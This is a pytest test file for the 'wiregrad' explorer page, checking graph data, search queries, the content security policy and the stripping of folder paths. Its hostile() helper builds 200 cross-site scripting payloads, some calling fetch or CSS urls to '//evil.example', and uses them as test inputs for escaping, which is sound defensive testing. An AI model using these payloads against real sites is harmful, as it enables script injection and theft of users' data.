"""The explorer's page and its data: nothing hostile gets out of the data, nothing of the machine gets into it."""

from __future__ import annotations

import hashlib
import itertools
import json
import re
from base64 import b64encode
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import wiregrad as wg
from wiregrad.api import Circuit, Run
from wiregrad.backends import interpreter
from wiregrad.cli.command_base import parse_target
from wiregrad.cli.page_commands import PRESETS, run_target
from wiregrad.draw import build_picture
from wiregrad.errors import CircuitError, FileAccessError, FileFormatError, InputError
from wiregrad.explorer import page_data
from wiregrad.explorer.circuit_views import CircuitViews, extract_part
from wiregrad.explorer.large_circuits import match_query
from wiregrad.explorer.page_data import (
    MAX_ANSWER_CHARACTERS,
    MAX_PAGE_NODES,
    build_page_data,
    draw_summary,
    dump_json,
    render_page,
    render_served_page,
    strip_folders,
    to_html,
)
from wiregrad.ir import Place
from wiregrad.ir.columns import NameTable, NodeLabels

from ..support.random_circuits import random_circuit, random_point

BUDGET = 310_000
"""How many bytes the page of a small example may have."""


def hostile() -> list[str]:
    """Return 200 texts that would do something if a page took them for more than text."""
    calls = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "top.location='//evil.example'", "1"]
    wrappers = [
        "</script><script>{}</script>",
        "</SCRIPT ><script>{}</script>",
        "<!--<script>{}</script>",
        "--><script>{}</script>",
        "<![CDATA[<script>{}]]>",
        "<img src=x onerror={}>",
        '<img src=x onerror="{}">',
        "<svg onload={}>",
        "<svg/onload='{}'>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<iframe src=javascript:{}>",
        "javascript:{}",
        '" onmouseover="{}',
        "' onfocus='{}' autofocus='",
        "\\u003cscript\\u003e{}",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "<style>*{{background:url('//evil.example?{}')}}</style>",
        "<base href=//evil.example/{}>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<link rel=stylesheet href='//evil.example/{}'>",
        "<form action=javascript:{}><button>",
        "<a href='javascript:{}'>x</a>",
        "<math><mi xlink:href='javascript:{}'>x",
        "<object data='javascript:{}'>",
        "<embed src='javascript:{}'>",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "${{{}}}",
        "{{{{{}}}}}",
        "`+{}+`",
        "'+{}+'",
        "\u2028{}\u2029",
        "\u202e<script>{}",
        "\x00<script>{}",
        "</ScRiPt\t>{}",
        "<script\n>{}",
        "<<script>script>{}",
    ]
    return [wrapper.format(call) for wrapper, call in itertools.product(wrappers, calls)]


class Elements(HTMLParser):
    """What a browser sees: tags with attributes, and the text of scripts and styles."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.open = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.texts.append("")
        self.open = True

    def handle_endtag(self, tag: str) -> None:
        self.open = False

    def handle_data(self, data: str) -> None:
        if self.open:
            self.texts[-1] += data

    def text(self, tag: str, **wanted: str) -> str:
        found = [
            text
            for (name, attrs), text in zip(self.tags, self.texts, strict=True)
            if name == tag and all(attrs.get(key) == value for key, value in wanted.items())
        ]
        assert len(found) == 1
        return found[0]


def data_block(text: str) -> str:
    return Elements(text).text("script", id="wiregrad-data")


@pytest.fixture
def stand_in(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let a short script and style stand in for the built ones, which many pages need not carry."""
    texts = {
        "explorer.js": "console.log(1 < 2 && 3 > 2)",
        "drawers.js": "console.log(1)",
        "explorer.css": "body > p { color: red }",
    }
    monkeypatch.setattr(page_data, "read_inline_file", texts.__getitem__)


def spoiled(text: str) -> Run:
    """Return a run whose names, groups, files and circuit's name are a hostile text, past the checks of names."""
    bare = wg.circuit("u = x * y; f = tanh(u)").run(x=1.0, y=2.0)
    size = bare.circuit.size
    index = np.zeros(size, np.int32)
    columns = replace(
        bare.circuit.columns,
        name=text,
        names=NameTable((node, f"{text}{node}") for node in range(size)),
        groups=NodeLabels((text,), index),
        places=NodeLabels((Place(text, 1, 1),), index),
        labels=(f"{text}{size - 1}",),
    )
    return Run(Circuit(columns), bare.values, bare.flows, bare.sent)


def test_two_hundred_script_strings_are_tried() -> None:
    assert len(set(hostile())) == 200


@pytest.mark.usefixtures("stand_in")
@pytest.mark.parametrize("write", [render_page, render_served_page])
def test_no_text_of_a_circuit_gets_out_of_the_data_block(write: Any) -> None:
    plain = [tag for tag, _ in Elements(write({}, "f")).tags]
    for text in hostile():
        run = spoiled(text)
        data = build_page_data(run.circuit, run, formula=text)
        written = write(data, text)
        block = data_block(written)

        assert not set("<>&\u2028\u2029") & set(block)
        assert json.loads(block) == data
        assert [tag for tag, _ in Elements(written).tags] == plain


@pytest.mark.usefixtures("stand_in")
def test_a_part_of_a_circuit_with_hostile_names_is_text_too() -> None:
    for text in hostile()[::7]:
        run = spoiled(text)
        found = json.loads(dump_json(CircuitViews(run.circuit, run).draw_view()))

        assert not set("<>&") & set(dump_json(found))
        assert len(found["boxes"]) == 4


def test_the_policy_names_the_scripts_and_the_style_by_their_hashes() -> None:
    written = Elements(to_html(wg.circuit("e = a + b; f = e * c")))
    policy = next(attrs["content"] for tag, attrs in written.tags if attrs.get("http-equiv"))
    scripts = [
        text for (tag, attrs), text in zip(written.tags, written.texts, strict=True) if tag == "script" and not attrs
    ]
    texts = [*scripts, written.text("style")]
    first, second, style = [b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in texts]

    assert policy == (
        f"default-src 'none'; script-src 'sha256-{first}' 'sha256-{second}'; style-src 'sha256-{style}'; "
        "img-src data:; connect-src 'none'; base-uri 'none'; form-action 'none'"
    )


def test_a_single_file_asks_for_nothing() -> None:
    tags = Elements(to_html(wg.circuit("x * x"))).tags
    attributes = {name for _, attrs in tags for name in attrs}

    assert not attributes & {"src", "href", "action", "srcset", "data", "style"}
    assert not [name for name in attributes if name.startswith("on")]
    assert not [tag for tag, _ in tags if tag in ("link", "iframe", "object", "embed", "base", "form", "img")]
    assert dict(tags)["html"] == {"lang": "en"}


@pytest.mark.parametrize("name", PRESETS)
def test_the_page_of_a_small_example_is_small(name: str) -> None:
    circuit, run = run_target(parse_target(PRESETS[name].formula, []), PRESETS[name].leaves)

    assert len(to_html(circuit, run).encode()) <= BUDGET


@pytest.mark.parametrize("file", ["/somewhere/ada/secret/model.py", "C:\\somewhere\\ada\\secret\\model.py"])
@pytest.mark.usefixtures("stand_in")
def test_folders_and_user_names_stay_out_of_the_page(file: str) -> None:
    bare = wg.circuit("p = x * 0; y = log(p)").run(x=1.0)
    index = np.zeros(bare.circuit.size, np.int32)
    circuit = Circuit(replace(bare.circuit.columns, places=NodeLabels((Place(file, 3),), index)))
    run = Run(circuit, bare.values, bare.flows, bare.sent)
    text = to_html(circuit, run, source=True) + dump_json(CircuitViews(*strip_folders(circuit, run)).draw_view())

    assert "model.py:3" in text
    assert not [word for word in ("ada", "secret", "somewhere") if word in text]


def test_lines_of_code_are_in_the_data_only_if_asked_for(tmp_path: Path) -> None:
    file = tmp_path / "model.py"
    file.write_text("def f(x):\n    return x * 3.0  # a secret of the lab\n")
    names: dict[str, Any] = {}
    exec(compile(file.read_text(), str(file), "exec"), names)
    circuit = wg.trace(names["f"], 2.0)

    assert "secret" not in json.dumps(build_page_data(circuit))
    assert "return x * 3.0  # a secret of the lab" in json.dumps(build_page_data(circuit, source=True))
    assert str(tmp_path) not in json.dumps(build_page_data(circuit, source=True))


def decoded(value: Any) -> Any:
    return float(value) if isinstance(value, str) else value


def same(one: Any, two: Any) -> bool:
    return bool(np.array_equal(np.float64(one), np.float64(two), equal_nan=True))


@pytest.mark.parametrize("seed", range(40))
def test_the_data_says_what_the_run_did_on_every_wire(seed: int) -> None:
    rng = np.random.default_rng(seed)
    circuit = random_circuit(rng)
    run = circuit.run(random_point(rng, circuit))
    data = json.loads(dump_json(build_page_data(circuit, run)))
    wires = [wire for node in run for wire in node.wires]

    assert [node["sources"] for node in data["circuit"]["nodes"]] == [row.sources for row in circuit.rows()]
    assert all(same(decoded(told), node.value) for told, node in zip(data["run"]["values"], run, strict=True))
    assert [told is None for told in data["run"]["grads"]] == [flow is None for flow in run.flows]
    assert all(same(decoded(told) or 0.0, node.grad) for told, node in zip(data["run"]["grads"], run, strict=True))
    assert [told[2] is None for told in data["run"]["wires"]] == [wire.blocked for wire in wires]
    for (local, upstream, sent), wire in zip(data["run"]["wires"], wires, strict=True):
        assert same(decoded(local) or 0.0, wire.local or 0.0)
        assert same(decoded(upstream) or 0.0, wire.upstream)
        assert same(decoded(sent) or 0.0, wire.sent)


def test_what_is_not_finite_is_told_as_text_with_its_origin() -> None:
    run = wg.circuit("p = x * 0; y = log(p)").run(x=1.0)
    data = build_page_data(run.circuit, run)

    assert data["run"]["values"][-1] == "-inf"
    assert data["run"]["grads"] == ["nan", None, "inf", 1.0]
    assert data["blame"]["origins"][0]["node"] == run.circuit.index("y")


@pytest.mark.parametrize(
    "x",
    [
        np.float32(1.5),
        np.array(2.0),
        np.ones((0, 3)),
        np.array([1.0, np.nan, np.inf]),
        np.ones(3, np.float32),
        np.ones((2, 2), np.complex128),
        np.complex128(1 + 2j),
        np.ones((1,) * 12),
        np.ones((2,) * 10),
    ],
    ids=str,
)
def test_any_value_on_a_wire_can_be_told(x: Any) -> None:
    circuit = wg.trace(lambda x: np.sum(np.abs(x * 2.0)), x)
    run = Run.from_backend_run(interpreter.run_all_outputs(circuit, [x]))
    data = build_page_data(circuit, run)

    assert json.loads(dump_json(data)) == data
    assert all(len(told["text"]) <= 200 for told in data["run"]["values"] if isinstance(told, dict))


def test_an_array_is_told_as_a_summary() -> None:
    circuit = wg.trace(lambda w: np.sum(np.maximum(w, 0.0)), np.array([3.0, -1.0, 4.0]))
    run = circuit.run(np.array([3.0, -1.0, 4.0]))
    data = build_page_data(circuit, run)

    told = {"type": "float64[3]", "text": "[1, 0, 1]", "norm": 2**0.5, "bad": 0, "short": "‖1.414‖", "sign": 1}
    grad = data["run"]["grads"][0]
    assert {key: value for key, value in grad.items() if key != "detail"} == told
    assert grad["detail"]["cells"] == [[1.0, 0.0, 1.0]]
    assert data["circuit"]["nodes"][-1]["caption"] == "sum"
    assert data["leaves"] == {"w[0]": 3.0, "w[1]": -1.0, "w[2]": 4.0}
    assert any("axes" in node.get("text", "") for node in data["circuit"]["nodes"])


@pytest.mark.parametrize(
    ("circuit", "live"),
    [
        (wg.circuit("y = maximum(a, b)"), True),
        (wg.circuit("y = x * x").split(), True),
        (wg.circuit("y = abs(x)").with_convention("torch"), False),
        (wg.trace(lambda x: x * 2.0, np.ones(3)), False),
        (wg.trace(lambda x: x * 2.0 if x > 0 else x, 1.0), False),
        (wg.trace(lambda x: (x, x * 2.0), 1.0), False),
    ],
    ids=["kink", "splitters", "another convention", "array", "steered", "two outputs"],
)
def test_the_page_runs_what_it_can_run(circuit: Circuit, live: bool) -> None:
    assert build_page_data(circuit)["live"] is live


@pytest.mark.parametrize("name", PRESETS)
def test_a_circuit_of_a_formula_is_handed_over_as_one(name: str) -> None:
    circuit = wg.circuit(PRESETS[name].formula)
    formula = build_page_data(circuit)["formula"]
    again = wg.circuit(formula)

    assert [str(node) for node in again] == [str(node) for node in circuit]
    assert again.inputs == circuit.inputs


def test_code_is_no_formula() -> None:
    assert "formula" not in build_page_data(wg.trace(lambda x: x * 2.0, 1.0))


def test_a_run_of_another_circuit_is_refused() -> None:
    with pytest.raises(CircuitError, match="another circuit"):
        build_page_data(wg.circuit("a * b"), wg.circuit("a + b").run(a=1.0, b=2.0))


def test_the_examples_are_those_of_the_menu() -> None:
    text = (Path(__file__).parents[2] / "web/src/state/presets.ts").read_text()
    blocks = text.split("export const PRESETS")[1].split('    key: "')[1:]
    menu = {block.partition('"')[0]: block for block in blocks}

    assert list(menu) == list(PRESETS)
    for key, block in menu.items():
        written = re.findall(r'formula: "([^"]+)"', block)
        leaves = re.findall(r"(\w+): (-?[\d.]+)", block.split("leaves: {")[1].split("}")[0])

        assert written in ([], [PRESETS[key].formula])
        assert {name: float(number) for name, number in leaves} == PRESETS[key].leaves


def test_a_page_without_its_script_says_what_to_do() -> None:
    with pytest.raises(FileAccessError, match="make page"):
        page_data.read_static_file("no-such-file.js")


@pytest.mark.parametrize("text", ["a</SCRIPT>", "'<!--'", "</style"])
def test_a_script_that_would_end_its_element_is_refused(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page_data, "read_static_file", lambda name: text)

    with pytest.raises(FileFormatError, match="cannot be embedded in a page"):
        page_data.read_inline_file.__wrapped__("explorer.js")


def chain(steps: int, x: float) -> Run:
    """Return the run of a long chain in groups."""
    builder = wg.Builder()
    node = builder.input("x")
    for step in range(steps):
        with builder.at(None, f"net/layer{step * 20 // steps}"):
            node = builder.tanh(builder.multiply(node, 1.01))
    return builder.build(node).run(x=x)


@pytest.fixture(scope="module")
def large() -> Run:
    return chain(8000, 0.5)


def test_a_large_circuit_is_told_in_a_summary_that_says_so(large: Run) -> None:
    data = json.loads(dump_json(build_page_data(large.circuit, large)))
    outline = {row["path"]: row["nodes"] for row in data["summary"]["outline"]["groups"]}

    assert large.circuit.size > MAX_PAGE_NODES
    assert data["note"].startswith(
        f"a summary: {len(data['summary']['board']['boxes'])} boxes stand for all 24,001 nodes and leaves"
    )
    assert len(data["summary"]["board"]["boxes"]) <= 300
    assert outline["net"] == 24_000
    assert outline["net/layer3"] == 1200
    assert len(dump_json(data)) < MAX_ANSWER_CHARACTERS + BUDGET
    assert data["summary"]["top"][0]["node"] == max(
        range(large.circuit.size), key=lambda node: (abs(large.gradient(node)), -node)
    )


def test_a_summary_tells_every_node_that_is_not_finite() -> None:
    run = chain(8000, float("nan"))
    found = build_page_data(run.circuit, run)["summary"]["nonfinite"]
    told = {node for first, last in found["values"]["slices"] for node in range(first, last + 1)}

    assert told == {node for node, value in enumerate(run.values) if np.isnan(value)}
    assert found["values"]["count"] == len(told)


@pytest.mark.parametrize("seed", range(30))
def test_the_first_op_to_break_has_finite_numbers_before_it(seed: int) -> None:
    rng = np.random.default_rng(seed)
    circuit = random_circuit(rng, nodes=25)
    run = circuit.run(random_point(rng, circuit) | {"a": float("inf")})
    first = CircuitViews(circuit, run).list_nonfinite()["first"]
    finite = [bool(np.isfinite(value)) for value in run.values]
    forward = [k for k in range(circuit.size) if not finite[k] and all(finite[x] for x in circuit.sources_of(k))]
    backward = [
        row.node
        for row in circuit.rows()
        for slot in range(len(row.sources))
        if np.isfinite(run.gradient(row.node)) and not np.isfinite(run.wire(row.node, slot).sent)
    ]

    assert (first["forward"] or {"node": None})["node"] == min(forward, default=None)
    assert (first["backward"] or {"node": None})["node"] == max(backward, default=None)


def test_wires_in_the_picture_of_a_summary_lead_forward(large: Run) -> None:
    data = draw_summary(CircuitViews(large.circuit, large))
    nodes = data["circuit"]["nodes"]

    assert len(nodes) <= 300
    assert all(source < k for k, node in enumerate(nodes) for source in node["sources"])
    assert len(data["run"]["wires"]) == sum(len(node["sources"]) for node in nodes)
    assert len(data["run"]["values"]) == len(data["run"]["grads"]) == len(nodes)
    assert (data["run"]["values"][0], data["run"]["grads"][0]) == (0.5, large.gradient(0))


@pytest.mark.parametrize("seed", range(25))
def test_a_part_carries_what_the_whole_does(seed: int) -> None:
    rng = np.random.default_rng(seed)
    circuit = random_circuit(rng, nodes=30)
    run = circuit.run(random_point(rng, circuit))
    chosen = np.flatnonzero(rng.random(circuit.size) < 0.4)
    chosen = chosen if len(chosen) else np.array([circuit.size - 1])
    found = extract_part(circuit, run, chosen)

    assert set(chosen.tolist()) <= set(found.nodes.tolist())
    assert found.run is not None
    for row in found.circuit.rows():
        whole = int(found.nodes[row.node])
        if whole in chosen:
            assert row.op is circuit.op_of(whole)
            assert [int(found.nodes[source]) for source in row.sources] == circuit.sources_of(whole)
            for slot in range(len(row.sources)):
                assert same(found.run.wire(row.node, slot).sent, run.wire(whole, slot).sent)


@pytest.mark.parametrize("seed", range(10))
def test_a_picture_of_a_part_names_the_nodes_of_the_whole(seed: int) -> None:
    rng = np.random.default_rng(seed)
    circuit = random_circuit(rng, nodes=30)
    run = circuit.run(random_point(rng, circuit))
    first = int(rng.integers(circuit.size - 3))
    found = CircuitViews(circuit, run).draw_view(nodes=f"{first}-{first + 3}")

    assert found["boxes"]
    for box in found["boxes"]:
        names = {circuit.title_of(box["node"]), *circuit.columns.names.names_of(box["node"]), *circuit.outputs}

        assert box["label"] in names
        assert "#" not in json.dumps(box)


def test_the_inside_of_a_group_can_be_drawn(large: Run) -> None:
    views = CircuitViews(large.circuit, large)
    found = views.draw_view(group="net/layer3", cap=2000)

    assert sum(box["nodes"] for box in found["boxes"] if box["group"] or box["kind"] == "group") >= 800
    with pytest.raises(InputError, match="no group"):
        views.draw_view(group="net/layer99")


@pytest.mark.parametrize(
    ("query", "holds"),
    [
        ("op:tanh", lambda run, k: run.circuit.op_of(k).name == "tanh"),
        ("grad>0.5", lambda run, k: run.flows[k] is not None and abs(run.flows[k]) > 0.5),
        ("grad<=0.5 op:tanh", lambda run, k: run.circuit.op_of(k).name == "tanh" and abs(run.flows[k]) <= 0.5),
        ("value>=1.01", lambda run, k: run.values[k] >= 1.01),
        ("group:layer19", lambda run, k: run.circuit.columns.groups.label_of(k) == "net/layer19"),
        ("group:/layer1$/", lambda run, k: run.circuit.columns.groups.label_of(k) == "net/layer1"),
        ("depth=0", lambda run, k: not run.circuit.columns.groups.label_of(k)),
        ("index<7", lambda run, k: k < 7),
        ("name:x", lambda run, k: k == 0),
        ("x", lambda run, k: k == 0),
        ("name:%12", lambda run, k: k == 12),
        ("bad", lambda run, k: False),
        ("absent", lambda run, k: run.flows[k] is None),
    ],
)
def test_a_search_finds_what_it_says(large: Run, query: str, holds: Any) -> None:
    found = np.flatnonzero(match_query(CircuitViews(large.circuit, large), query)).tolist()

    assert found == [node for node in range(large.circuit.size) if holds(large, node)]


SIGNED_QUERIES: dict[str, Any] = {
    "grad<0": lambda value, grad: grad < 0,
    "grad<=0": lambda value, grad: grad <= 0,
    "grad>0": lambda value, grad: abs(grad) > 0,
    "grad>=0": lambda value, grad: abs(grad) >= 0,
    "grad=0": lambda value, grad: grad == 0,
    "grad>-1.5": lambda value, grad: grad > -1.5,
    "grad>=-2": lambda value, grad: grad >= -2,
    "grad=-2": lambda value, grad: grad == -2,
    "grad<-1.5": lambda value, grad: grad < -1.5,
    "grad<1.5": lambda value, grad: abs(grad) < 1.5,
    "grad>1.5": lambda value, grad: abs(grad) > 1.5,
    "value<0": lambda value, grad: value < 0,
    "value<-0.0": lambda value, grad: value < 0,
    "value<=0": lambda value, grad: value <= 0,
    "value<0 grad<0": lambda value, grad: value < 0 and grad < 0,
    "value>-1": lambda value, grad: value > -1,
}


@pytest.mark.parametrize("query", SIGNED_QUERIES)
def test_a_bound_that_no_magnitude_is_below_is_compared_with_signed_numbers(query: str) -> None:
    run = wg.circuit("u = x * z; y = 3 - 2 * x + 0 * u - w").run(x=0.5, z=-3.0, w=4.0)
    found = np.flatnonzero(match_query(CircuitViews(run.circuit, run), query)).tolist()
    grads = [np.nan if flow is None else float(flow) for flow in run.flows]
    numbers = zip(map(float, run.values), grads, strict=True)

    assert found == [node for node, pair in enumerate(numbers) if SIGNED_QUERIES[query](*pair)]


@pytest.mark.parametrize(
    ("query", "names"),
    [("value<0", ["down"]), ("value<=-5", ["down"]), ("value>-1", ["mixed", "up"]), ("grad<0", ["up"])],
)
def test_an_array_is_negative_if_all_its_elements_are(query: str, names: list[str]) -> None:
    def f(down: Any, mixed: Any, up: Any) -> Any:
        return np.sum(down * 2.0) + np.sum(mixed * np.array([1.0, -1.0])) - np.sum(up)

    point = np.array([-3.0, -4.0]), np.array([3.0, -4.0]), np.array([1.0, 2.0])
    run = wg.trace(f, *point).run(*point)
    mask = match_query(CircuitViews(run.circuit, run), f"{query} op:input")

    assert [run.circuit.title_of(node) for node in np.flatnonzero(mask)] == names


@pytest.mark.parametrize("query", ["op:thanh", "grad>high", "size>3", "colour:red", "name:/(/", "x" * 2000])
def test_a_search_that_means_nothing_is_refused(large: Run, query: str) -> None:
    with pytest.raises(InputError):
        match_query(CircuitViews(large.circuit, large), query)


def test_the_heat_strip_counts_every_node_once(large: Run) -> None:
    strip = CircuitViews(large.circuit, large).build_heat_strip()
    sized = sum(cell[2] for cell in strip["cells"])

    assert sized + strip["zero"] + strip["absent"] == large.circuit.size
    assert max(cell[0] for cell in strip["cells"]) < strip["columns"] <= 240
    assert all(positive + negative <= nodes for _, _, nodes, positive, negative in strip["cells"])


def test_heat_of_a_circuit_without_a_run_is_all_absent() -> None:
    assert CircuitViews(wg.circuit("x * x")).build_heat_strip()["absent"] == 2


def mixed(groups: int, rounds: int) -> Run:
    """Return a run whose groups take turns, each node reading that before it in its own group."""
    builder = wg.Builder()
    nodes = [builder.input("x")] * groups
    for step in range(rounds):
        for k in range(groups):
            with builder.at(None, f"net/g{k}" if step % 7 else f"net/g{k}/inner"):
                nodes[k] = builder.sin(nodes[k])
    total = nodes[0]
    for node in nodes[1:]:
        with builder.at(None, "end"):
            total = builder.add(total, node)
    return builder.build(total).run(x=0.5)


@pytest.mark.parametrize("cap", [4, 9, 300])
@pytest.mark.parametrize("groups", [1, 3, 40])
def test_what_is_inside_a_box_is_asked_for_exactly(groups: int, cap: int) -> None:
    run = mixed(groups, 30)
    views = CircuitViews(run.circuit, run)
    drawn = build_picture(run.circuit, run, cap=cap)
    boxes = [box for box in drawn.boxes if box.members]
    told = [box for box in views.draw_view(cap=cap)["boxes"] if box["inside"] is not None]

    assert len(boxes) == len(told)
    for box, found in zip(boxes, told, strict=True):
        chosen = views._choose_nodes(**found["inside"])
        inside = set(range(run.circuit.size)) if chosen is None else set(chosen.tolist())
        assert inside == set(box.members), found["label"]


def test_an_outline_of_gradients_beyond_all_numbers_is_json() -> None:
    builder = wg.Builder()
    x = builder.input("x")
    with builder.at(None, "net"):
        one, two = (builder.multiply(builder.sin(x), 1.5e308) for _ in range(2))
        run = builder.build(builder.subtract(one, two)).run(x=0.5)

    assert json.loads(dump_json(CircuitViews(run.circuit, run).outline_groups()))["groups"][0]["norm"] == "inf"


def test_a_summary_keeps_what_its_page_will_ask_for(large: Run) -> None:
    summary = build_page_data(large.circuit, large)["summary"]
    boxes = [box for box in summary["board"]["boxes"] if box["kind"] in ("group", "range") and not box.get("open")]
    asked = {
        f"/board?opened={box['path']}"
        if box["kind"] == "group"
        else f"/board?focus={box['stretch']}:{box['first']}-{box['last']}"
        for box in boxes
    }

    assert asked
    assert asked <= summary["answers"].keys()
    assert {f"/node/{row['node']}" for row in summary["top"]} <= summary["answers"].keys()
    assert {f"/locate/{row['node']}" for row in summary["top"][:3]} <= summary["answers"].keys()


def test_the_page_has_the_inside_of_loops() -> None:
    circuit = wg.trace(lambda w: wg.fori_loop(0, 100, lambda i, x: np.sin(x) * w, 1.0), 0.9)
    run = circuit.run(w=0.9)
    (loop,) = build_page_data(circuit, run)["run"]["loops"].values()
    names = [node["names"] for node in loop["circuit"]["nodes"]]

    assert loop["steps"] == 100
    assert (loop["shown"][0], loop["shown"][-1], len(loop["shown"])) == (0, 99, 24)
    assert len(loop["runs"]) == 24
    assert ["carry"] in names
    assert loop["runs"][-1]["values"][-1] == run.output
